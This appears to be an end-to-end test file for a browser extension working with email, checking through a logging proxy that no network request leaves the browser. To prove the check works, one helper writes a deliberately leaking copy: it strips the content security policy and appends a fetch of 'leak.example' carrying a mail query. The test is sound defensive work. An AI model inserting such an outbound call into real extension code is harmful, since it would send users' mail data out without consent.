import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";

import { launchChromium } from "../support/launch-chromium";
import { type LoggingProxy, startLoggingProxy } from "../support/logging-proxy";
import { openThread } from "../support/mail-actions";
import { serveMail } from "../support/mail-site";
import { readStored } from "../support/stored";
import { eventually, find, press } from "../support/surfaces";

let proxy: LoggingProxy;

beforeEach(async () => {
  proxy = await startLoggingProxy();
});

afterEach(async () => {
  await proxy.close();
});

/** The main job from the mail to the popup, with every connection of the whole browser sent through the proxy. */
async function playMainJob(extension: string): Promise<void> {
  const browser = await launchChromium({ extension, proxy: proxy.address });
  try {
    const site = await serveMail(browser);
    const page = await site.open();
    await openThread(page, "Your application at Nordlicht Energie");
    await press(page, "When you’re ready");
    await press(page, "Let it out, 2 min");
    await press(page, "Done");
    await find(page, "button", "Let it out, done");
    await eventually("Nothing was stored.", async () => (await readStored(browser)).rejections.length === 1);
    const popup = await browser.openPopup(page);
    await find(popup, "button", "Let it out, done");
  } finally {
    await browser.close();
  }
}

/** The release with one line more, which asks a server for something, and the permission to do so. */
function makeLeakingCopy(folder: string): void {
  cpSync("dist/chrome", folder, { recursive: true });
  const manifestFile = path.join(folder, "manifest.json");
  const manifest = JSON.parse(readFileSync(manifestFile, "utf8")) as Record<string, unknown>;
  delete manifest["content_security_policy"];
  writeFileSync(manifestFile, JSON.stringify(manifest));
  const worker = path.join(folder, "service-worker-loader.js");
  writeFileSync(worker, `${readFileSync(worker, "utf8")}\nfetch("http://leak.example/?mail").catch(() => 0);\n`);
}

describe("nothing leaves the browser", () => {
  it("while the main job is played", async () => {
    await playMainJob("dist/chrome");
    expect(proxy.foreignHosts()).toEqual([]);
  });

  it("and this test would see it: a copy that asks a server is caught", async () => {
    const folder = mkdtempSync(path.join(tmpdir(), "onward-leaking-"));
    try {
      makeLeakingCopy(folder);
      await playMainJob(folder);
      expect(proxy.foreignHosts()).toContain("leak.example");
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
